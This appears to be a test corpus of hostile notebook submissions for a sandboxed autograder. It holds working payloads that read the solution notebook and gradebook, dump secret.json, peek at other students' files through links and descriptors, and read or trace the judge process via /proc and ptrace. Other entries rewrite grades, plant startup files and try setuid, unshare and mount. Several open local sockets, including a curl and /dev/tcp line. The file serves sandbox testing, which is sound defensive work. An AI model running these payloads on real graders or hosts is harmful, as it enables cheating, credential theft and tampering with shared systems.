"""Notebooks that reach beyond their process: for the answers, the gradebook, other students, the judge's memory, the network.

What they print is looked through for what is worth stealing, and the ground is looked over for what was written or heard.
"""

from autograder.evidence import State
from tests.hostile.entry import Entry, without
from tests.hostile.workshop import answering

NO_SOFTMAX = without("softmax")


def corpus() -> list[Entry]:
    return [*_reads(), *_writes(), *_processes(), *_sockets()]


def _reads() -> list[Entry]:
    return [
        answering(
            "the author's notebook is read and run",
            softmax="""
            import glob, json, os
            def softmax(x):
                return x
            for path in ["{course}/source/lab99_light/lab99_light.ipynb", *glob.glob("**/*.ipynb", recursive=True),
                         *glob.glob("../**/*.ipynb", recursive=True), *glob.glob("/*/*/source/*/*.ipynb")]:
                try:
                    text = open(path).read()
                    print("read:", text)
                    for cell in json.loads(text[:text.rindex("}") + 1])["cells"]:
                        if "def softmax" in "".join(cell["source"]):
                            exec("".join(cell["source"]))
                except (OSError, ValueError, KeyError):
                    pass
            """,
            points=NO_SOFTMAX,
            never=("read: {",),
        ),
        answering(
            "everything in the course folder is read",
            """
            import os, pathlib
            for where in ("{course}", ".", "..", "../..", "/tmp", "/root", "/home"):
                for folder, folders, names in os.walk(where):
                    for name in names[:200]:
                        try: print(pathlib.Path(folder, name).read_bytes()[:200_000])
                        except OSError: pass
                    if folder.count("/") > 6: folders.clear()
            """,
            states=(State.GRADED, State.TIMED_OUT),
        ),
        answering(
            "the gradebook is read and the key is printed",
            """
            import sqlite3
            for path in ("{course}/gradebook.db", "gradebook.db", "../gradebook.db", "../../../gradebook.db"):
                try:
                    print(sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute("select * from grade").fetchall())
                except Exception as error:
                    print(type(error).__name__)
            try: print(open("{course}/secret.json").read())
            except OSError: pass
            """,
        ),
        answering(
            "a link, a hard link and a descriptor to another's notebook",
            """
            import os
            for make in (os.symlink, os.link):
                try:
                    make("{course}/submitted/neighbour/another_lab/another_lab.ipynb", make.__name__)
                    print(open(make.__name__).read())
                except OSError: pass
            for number in range(3, 256):
                try: print(os.pread(number, 4096, 0))
                except OSError: pass
            for number in range(0, 256):
                try: print(open(f"/proc/self/fd/{number}", "rb").read(4096) if number > 2 else "")
                except (OSError, ValueError): pass
            """,
            states=(State.GRADED, State.TIMED_OUT, State.TAMPERED, State.CRASHED),
            at_most=True,
        ),
        answering(
            "the judge's memory",
            """
            for pid in ("{judge}", "self", "1", *map(str, range(1, 400))):
                for what in ("mem", "environ", "root", "cwd", "fd"):
                    if pid == "self": continue
                    try:
                        file = open(f"/proc/{pid}/{what}", "rb")
                        if pid == "{judge}": print("the judge was opened:", what)
                        print(file.read(4096))
                    except (OSError, ValueError, OverflowError): pass
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            if libc.ptrace(16, {judge}, 0, 0) == 0: print("the judge was traced")
            buffer = (ctypes.c_char * 64)()
            class Piece(ctypes.Structure): _fields_ = [("at", ctypes.c_void_p), ("size", ctypes.c_size_t)]
            mine, theirs = Piece(ctypes.addressof(buffer), 64), Piece(0x400000, 64)
            if libc.process_vm_readv({judge}, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
                print("the judge was copied")
            """,
            never=("the judge was",),
        ),
    ]


def _writes() -> list[Entry]:
    return [
        answering(
            "files elsewhere",
            """
            import os, shutil
            for way in ("{outside}/new", "{course}/new", "{course}/gradebook.db", "{course}/secret.json", "/new",
                        "{course}/submitted/neighbour/another_lab/another_lab.ipynb", "../new", "/etc/new"):
                for attack in (lambda: open(way, "a").write("x"), lambda: os.unlink(way), lambda: os.rename(way, way + "2"),
                               lambda: os.truncate(way, 0), lambda: os.chmod(way, 0), lambda: os.utime(way, (0, 0)),
                               lambda: os.mkdir(way + "_"), lambda: os.symlink("/", way + "_link"),
                               lambda: shutil.rmtree(os.path.dirname(way) if "outside" in way else way)):
                    try: attack()
                    except OSError: pass
            """,
        ),
        answering(
            "points written into the gradebook",
            """
            import sqlite3
            for path in ("{course}/gradebook.db", "../gradebook.db", "../../../gradebook.db"):
                try:
                    connection = sqlite3.connect(path, timeout=0.1)
                    connection.execute("update grade set auto_score = 12")
                    connection.commit()
                except Exception as error:
                    print(type(error).__name__)
            """,
            softmax="def softmax(x):\n    return x",
            points=NO_SOFTMAX,
        ),
        answering(
            "the lab's own notebook and the next student's folder",
            """
            import pathlib
            here = pathlib.Path.cwd()
            for folder in (here, *here.parents):
                for name in ("lab99_light.ipynb", "sitecustomize.py", "numpy.py", "usercustomize.py", "course_lib/__init__.py"):
                    try: (folder / name).write_text("raise SystemExit")
                    except OSError: pass
            """,
        ),
        answering(
            "start-up files for whoever comes next",
            """
            import os, pathlib, sys, site
            home = pathlib.Path(os.path.expanduser("~"))
            for way in (home / ".ipython/profile_default/startup/00.py", home / ".bashrc", home / "matplotlibrc",
                        home / ".config/matplotlib/matplotlibrc", *(pathlib.Path(p) / "numpy.py" for p in sys.path if p),
                        pathlib.Path(np.__file__), pathlib.Path(np.__file__).parent / "linalg/__init__.py"):
                try:
                    way.parent.mkdir(parents=True, exist_ok=True)
                    way.write_text("raise SystemExit")
                    print("written:", way)
                except OSError: pass
            """,
            never=("numpy.py", "linalg/__init__.py"),
        ),
    ]


def _processes() -> list[Entry]:
    return [
        answering(
            "rights, limits and namespaces of one's own",
            """
            import ctypes, os, resource
            libc = ctypes.CDLL(None, use_errno=True)
            for attack in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("/"), lambda: os.nice(-5),
                           lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1))):
                try:
                    attack()
                    print("rights were gained")
                except (OSError, ValueError): pass
            for flags in (0x10000000, 0x20000, 0x40000000):
                if libc.unshare(flags) == 0: print("a namespace was made")
            if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: print("something was mounted")
            """,
            never=("a namespace was made", "something was mounted"),
        ),
        answering(
            "children that write and wait",
            """
            import subprocess
            subprocess.Popen(["/bin/sh", "-c", "sleep 0.3; echo x > {outside}/late; sleep 1000"], start_new_session=True)
            subprocess.run(["/bin/sh", "-c", "(sleep 0.2; echo x > {outside}/later) &"])
            """,
        ),
    ]


def _sockets() -> list[Entry]:
    return [
        answering(
            "TCP, by number and by name",
            """
            import socket
            for address in (("127.0.0.1", {tcp}), ("localhost", {tcp}), ("::1", {tcp}), ("0.0.0.0", {tcp})):
                try:
                    socket.create_connection(address, timeout=0.2).send(b"answers")
                    print("connected")
                except OSError: pass
            """,
            never=("connected",),
        ),
        answering(
            "UDP and raw packets",
            """
            import socket
            for family, kind in ((socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_INET6, socket.SOCK_DGRAM),
                                 (socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW)):
                try:
                    socket.socket(family, kind).sendto(b"answers", ("127.0.0.1", {udp}))
                    print("sent")
                except (OSError, TypeError, ValueError): pass
            """,
            never=("sent",),
        ),
        answering(
            "Unix sockets, abstract and in a folder",
            """
            import socket
            for address in ("\\0{abstract}", "{outside}/socket"):
                for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
                    try:
                        ear = socket.socket(socket.AF_UNIX, kind)
                        ear.connect(address)
                        print("connected")
                    except OSError: pass
            """,
            never=("connected",),
        ),
        answering(
            "a server that waits for another student's notebook",
            """
            import os, socket
            try:
                server = socket.socket(socket.AF_UNIX)
                server.bind("\\0course-meeting-point")
                server.listen()
                print("listening")
            except OSError: pass
            for way in ("/dev/shm/meeting", "/tmp/meeting", "/var/tmp/meeting"):
                try:
                    open(way, "x").write("answers")
                    print("left at", way)
                except OSError: pass
            """,
            never=("listening",),
        ),
        answering(
            "the answer is asked of a neighbour",
            """
            import os
            for way in ("/dev/shm/meeting", "/tmp/meeting", "/var/tmp/meeting"):
                if os.path.exists(way): print("found at", way)
            """,
            never=("found at",),
        ),
        answering(
            "programs that speak to the network",
            "%%bash\ncurl -m 1 http://127.0.0.1:{tcp}/ ; exec 3<>/dev/tcp/127.0.0.1/{tcp} && echo opened >&3",
        ),
    ]
